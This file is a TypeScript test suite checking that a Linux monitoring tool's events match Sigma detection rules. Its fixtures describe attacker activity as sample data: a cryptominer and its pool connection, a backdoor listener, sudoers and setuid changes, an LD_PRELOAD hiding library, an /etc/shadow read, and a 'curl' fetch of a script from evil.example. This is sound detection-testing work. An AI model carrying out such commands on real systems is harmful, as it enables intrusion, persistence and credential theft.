import { describe, expect, it } from 'vitest';
import { collect, matches, ruleSet } from '../test/helpers.js';

const rule = (logsource: string, sel: string): string => `title: t\nlogsource: {product: linux, ${logsource}}\ndetection:\n  sel:\n${sel}\n  condition: sel\n`;

describe('Vigil events on Sigma Linux taxonomy', () => {
  it('process_creation: Image, CommandLine, ParentImage, ParentCommandLine, User, CurrentDirectory, ProcessId, ParentProcessId, OriginalFileName, Hashes', () => {
    const e = {
      processStart: {
        pid: 42,
        ppid: 7,
        exe: '/tmp/.x/miner',
        argv: ['./miner', '-o', 'pool:3333'],
        parentExe: '/usr/bin/bash',
        parentArgv: ['bash', '-i'],
        user: 'www-data',
        uid: 33,
        cwd: '/tmp/.x',
        sha256: 'ab',
      },
    };
    const sel = [
      "    Image: '/tmp/.x/miner'",
      "    CommandLine: './miner -o pool:3333'",
      "    ParentImage: '/usr/bin/bash'",
      "    ParentCommandLine: 'bash -i'",
      "    User: 'www-data'",
      "    CurrentDirectory: '/tmp/.x'",
      '    ProcessId: 42',
      '    ParentProcessId: 7',
      '    OriginalFileName: miner',
      "    Hashes|contains: 'SHA256=AB'",
    ].join('\n');
    expect(matches(rule('category: process_creation', sel), e)).toBe(true);
    expect(matches(rule('category: process_creation', '    User: root'), e)).toBe(false);
  });
  it('network_connection: outbound maps local to Source and remote to Destination; inbound the reverse', () => {
    const conn = (direction: string): Record<string, unknown> => ({
      networkConnection: {
        transport: 'TCP',
        ipVersion: 4,
        localAddress: '10.0.0.5',
        localPort: 50000,
        remoteAddress: '203.0.113.7',
        remotePort: 3333,
        direction,
        pid: 9,
        exe: '/tmp/xmrig',
      },
    });
    const out = rule(
      'category: network_connection',
      "    Initiated: 'true'\n    DestinationIp: 203.0.113.7\n    DestinationPort: 3333\n    SourceIp: 10.0.0.5\n    Image|endswith: /xmrig\n    Protocol: tcp",
    );
    expect(matches(out, conn('OUTBOUND'))).toBe(true);
    expect(matches(out, conn('INBOUND'))).toBe(false);
    expect(
      matches(rule('category: network_connection', "    Initiated: 'false'\n    SourceIp: 203.0.113.7\n    DestinationPort: 50000"), conn('INBOUND')),
    ).toBe(true);
  });
  it('network_listener (Vigil): opened listeners only', () => {
    const l = (closed: boolean): Record<string, unknown> => ({
      networkListener: { transport: 'TCP', ipVersion: 4, localAddress: '0.0.0.0', localPort: 31337, pid: 3, exe: '/tmp/bd', closed },
    });
    const r = rule('category: network_listener', '    LocalPort: 31337\n    Image: /tmp/bd');
    expect(matches(r, l(false))).toBe(true);
    expect(matches(r, l(true))).toBe(false);
  });
  it('file_event: created/modified/renamed files with modes and setuid; deletes go to file_delete', () => {
    const f = (action: string, mode: number, before?: Record<string, unknown>): Record<string, unknown> => ({
      fileChange: { path: '/etc/sudoers.d/x', action, watch: 'sudoers', after: { exists: action !== 'DELETED', mode, uid: 0, sha256: 'cd' }, before },
    });
    expect(
      matches(
        rule('category: file_event', "    TargetFilename|startswith: /etc/sudoers.d/\n    Action: created\n    FileMode: '100644'\n    Watch: sudoers"),
        f('CREATED', 0o100644),
      ),
    ).toBe(true);
    expect(matches(rule('category: file_event', '    TargetFilename: /etc/sudoers.d/x'), f('DELETED', 0))).toBe(false);
    expect(matches(rule('category: file_delete', '    TargetFilename: /etc/sudoers.d/x'), f('DELETED', 0))).toBe(true);
    const suid = rule('category: file_event', "    Setuid: 'true'\n    PreviousSetuid: 'false'");
    expect(matches(suid, f('ATTRIBUTES', 0o104755, { exists: true, mode: 0o100755 }))).toBe(true);
    expect(matches(suid, f('MODIFIED', 0o104755, { exists: true, mode: 0o104755 }))).toBe(false);
    expect(matches(suid, f('CREATED', 0o104755))).toBe(true);
  });
  it('process_creation from the kernel: Auid, LogonUser, loader variables, ancestors, ArgvMissing', () => {
    const e = {
      processStart: {
        pid: 9,
        ppid: 8,
        exe: '/usr/bin/id',
        argv: ['id'],
        user: 'root',
        uid: 0,
        auid: 1000,
        loginUser: 'alice',
        source: 'audit',
        loaderEnv: { LD_PRELOAD: '/tmp/libhide.so', LD_LIBRARY_PATH: '/tmp' },
        ancestors: [
          { pid: 8, exe: '/usr/bin/sh', argv: ['sh', '-c', 'id'] },
          { pid: 7, exe: '/usr/sbin/sshd' },
        ],
      },
    };
    const pr = (sel: string): string => rule('category: process_creation', sel);
    expect(matches(pr('    Auid: 1000\n    LogonUser: alice\n    Source: audit'), e)).toBe(true);
    expect(matches(pr('    LdPreload: /tmp/libhide.so\n    LdLibraryPath: /tmp'), e)).toBe(true);
    expect(matches(pr("    LoaderEnv: 'LD_LIBRARY_PATH=/tmp LD_PRELOAD=/tmp/libhide.so'"), e)).toBe(true);
    expect(matches(pr('    LdAudit|exists: true'), e)).toBe(false);
    // the parent comes from the process table when the event has no parent block; the chain is searchable
    expect(matches(pr('    ParentImage: /usr/bin/sh\n    GrandparentImage: /usr/sbin/sshd\n    AncestorImages|contains: sshd'), e)).toBe(true);
    expect(matches(pr("    ArgvMissing: 'false'"), e)).toBe(true);
    // 4294967295 is the kernel's "no login": no Auid at all
    expect(matches(pr('    Auid|exists: true'), { processStart: { ...e.processStart, auid: 4294967295 } })).toBe(false);
    expect(matches(pr('    LdPreload|exists: true'), { processStart: { pid: 1, exe: '/usr/bin/id' } })).toBe(false);
  });
  it('network_connection from audit: Source, Auid, Result', () => {
    const c = {
      networkConnection: {
        transport: 'TCP',
        ipVersion: 4,
        localAddress: '10.0.0.5',
        localPort: 50000,
        remoteAddress: '203.0.113.7',
        remotePort: 443,
        direction: 'OUTBOUND',
        pid: 9,
        exe: '/usr/bin/curl',
        source: 'audit',
        auid: 1000,
        result: 'ECONNREFUSED',
      },
    };
    expect(matches(rule('category: network_connection', '    Source: audit\n    Auid: 1000\n    Result: ECONNREFUSED\n    Image|endswith: /curl'), c)).toBe(
      true,
    );
  });
  it('file_access (Vigil): path, access, the process and its users', () => {
    const f = {
      fileAccess: {
        path: '/etc/shadow',
        access: 'read',
        pid: 50,
        ppid: 49,
        exe: '/usr/bin/python3.11',
        comm: 'python3',
        uid: 0,
        euid: 0,
        auid: 1000,
        user: 'root',
        loginUser: 'alice',
        syscall: 'openat',
        success: true,
        watch: 'shadow',
      },
    };
    const sel =
      "    TargetFilename: /etc/shadow\n    Access: read\n    Image|startswith: /usr/bin/python\n    User: root\n    Auid: 1000\n    LogonUser: alice\n    Syscall: openat\n    Success: 'true'\n    Watch: shadow\n    ProcessId: 50\n    ParentProcessId: 49\n    Comm: python3";
    expect(matches(rule('category: file_access', sel), f)).toBe(true);
    expect(matches(rule('category: file_access', '    Access: write'), f)).toBe(false);
    // a file_access event is not a file_event (the FIM's change record), and the reverse
    expect(matches(rule('category: file_event', '    TargetFilename: /etc/shadow'), f)).toBe(false);
    expect(matches(rule('category: file_access', '    TargetFilename: /etc/shadow'), { fileChange: { path: '/etc/shadow', action: 'MODIFIED' } })).toBe(false);
  });
  it('telemetry_coverage and tamper (Vigil): the ledger counts and what was tampered with', () => {
    const cov = {
      coverage: {
        minuteStartNs: '1700000000000000000',
        kernelExecs: '120',
        execsWithArgs: '100',
        execsPidOnly: '20',
        recordsLost: '7',
        processSource: 'audit',
        sourceReason: 'audit: ok',
      },
    };
    expect(matches(rule('category: telemetry_coverage', '    RecordsLost|gt: 0\n    KernelExecs|gte: 120\n    ProcessSource: audit'), cov)).toBe(true);
    expect(matches(rule('category: telemetry_coverage', '    RecordsLost|gt: 7'), cov)).toBe(false);
    const t = { tamper: { what: 'audit_rules_removed', detail: '3 vigil rules gone', repaired: true } };
    expect(matches(rule('category: tamper', "    What: audit_rules_removed\n    Detail|contains: vigil\n    Repaired: 'true'"), t)).toBe(true);
  });
  it('builtin services: sshd, sudo, cron, syslog, auth come from LogRecord parser/program/source', () => {
    const log = (parser: string, program: string, source = '/var/log/auth.log'): Record<string, unknown> => ({
      log: { source, raw: `${program}[1]: hello`, parser, program, action: 'x', fields: { user: 'bob' } },
    });
    for (const svc of ['sshd', 'auth', 'syslog']) expect(matches(rule(`service: ${svc}`, '    user: bob'), log('sshd', 'sshd'))).toBe(true);
    expect(matches(rule('service: sudo', '    action: x'), log('sudo', 'sudo'))).toBe(true);
    expect(matches(rule('service: cron', '    user: bob'), log('cron', 'CRON', '/var/log/syslog'))).toBe(true);
    expect(matches(rule('service: auth', '    user: bob'), log('cron', 'CRON', '/var/log/syslog'))).toBe(false);
    expect(matches(rule('service: sshd', '    user: bob'), log('sudo', 'sudo'))).toBe(false);
    expect(matches(rule('service: vsftpd', '    user: bob'), log('', 'vsftpd', '/var/log/syslog'))).toBe(true);
  });
  it('auditd: grouped records are evaluated per record, each rule at most once per event', () => {
    const audit = {
      log: {
        source: '/var/log/audit/audit.log',
        parser: 'auditd',
        action: 'execve',
        raw: 'type=SYSCALL ... type=EXECVE argc=3 a0="curl"',
        fields: {
          serial: '501',
          type: 'SYSCALL,EXECVE,CWD,PATH,PATH',
          exe: '/usr/bin/curl',
          key: 'exec',
          comm: 'curl',
          pid: '4001',
          'syscall.SYSCALL': 'execve',
          'syscall.syscall': '59',
          'syscall.exe': '/usr/bin/curl',
          'syscall.key': 'exec',
          'execve.argc': '3',
          'execve.a0': 'curl',
          'execve.a1': '-s',
          'execve.a2': 'http://evil.example/x.sh',
          'cwd.cwd': '/home/alice',
          'path.0.name': '/usr/bin/curl',
          'path.1.name': '/lib64/ld-linux-x86-64.so.2',
        },
      },
    };
    expect(matches(rule('service: auditd', '    type: EXECVE\n    a0: curl\n    a2|contains: evil'), audit)).toBe(true);
    expect(matches(rule('service: auditd', '    type: SYSCALL\n    SYSCALL: execve\n    exe|endswith: /curl'), audit)).toBe(true);
    expect(matches(rule('service: auditd', '    type: PATH\n    name: /lib64/ld-linux-x86-64.so.2'), audit)).toBe(true);
    expect(matches(rule('service: auditd', '    type: EXECVE\n    a0: wget'), audit)).toBe(false);
    expect(matches(rule('service: auditd', '    type: CWD\n    name: /usr/bin/curl'), audit)).toBe(false);
    expect(collect(ruleSet(rule('service: auditd', '    key: exec')), [{ e: audit, t: 0 }])).toHaveLength(1);
  });
  it('"message repeated N times" counts N toward correlations', () => {
    const set = ruleSet(
      `title: f\nname: f\nlogsource: {product: linux, service: sshd}\ndetection: {s: {action: failed_password}, condition: s}\n---\ntitle: c\ncorrelation: {type: event_count, rules: [f], group-by: [src_ip], timespan: 1m, condition: {gte: 5}}\n`,
    );
    const e = {
      log: { source: '/var/log/auth.log', parser: 'sshd', program: 'sshd', action: 'failed_password', raw: 'x', fields: { src_ip: '1.2.3.4', repeated: '5' } },
    };
    expect(collect(set, [{ e, t: 0 }]).map((m) => [m.rule.title, m.count])).toEqual([['c', 5]]);
  });
});
